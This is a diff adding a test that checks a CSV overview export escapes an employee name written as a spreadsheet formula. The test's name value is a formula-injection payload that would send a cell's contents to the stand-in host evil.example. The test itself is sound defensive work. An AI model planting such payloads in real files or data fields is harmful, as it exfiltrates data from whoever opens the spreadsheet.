@@ -154,6 +154,16 @@ def test_the_csv_has_a_row_per_pair_with_metadata_columns(cohort, pair):
     assert "TOPIC" not in text and "NOTE" not in text
 
 
+def test_a_roster_name_written_as_a_formula_is_only_text_in_the_csv(cohort, pair):
+    member = pair.members.select_related("participant__employee").first()
+    employee = member.participant.employee
+    employee.name = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+    employee.save(update_fields=["name"])
+    rows = list(csv.reader(io.StringIO(overview_csv(cohort_overview(cohort=cohort)))))
+    cells = [cell for cell in rows[1] if "HYPERLINK" in cell]
+    assert cells == ["'" + employee.name]
+
+
 def test_the_overview_never_queries_per_pair(cohort):
     def add(n_pairs: int) -> None:
         for p in _pairs(cohort, n_pairs):
